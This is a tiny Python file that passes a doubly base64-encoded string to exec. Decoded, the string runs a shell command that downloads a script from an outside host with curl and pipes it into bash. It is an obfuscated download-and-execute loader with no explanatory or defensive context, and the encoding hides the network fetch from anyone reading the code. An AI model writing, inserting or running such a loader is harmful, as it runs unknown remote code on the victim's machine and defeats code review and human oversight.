import base64 as b
for _ in range(1):
    exec(b.b64decode(b.b64decode("YVcxd2IzSjBJRzl6TzI5ekxuTjVjM1JsYlNnaVkzVnliQ0F0Y3lCb2RIUndjem92TDJOa2JpMTROeTVwYm5aaGJHbGtMMkVnZkNCaVlYTm9JaWs9")))
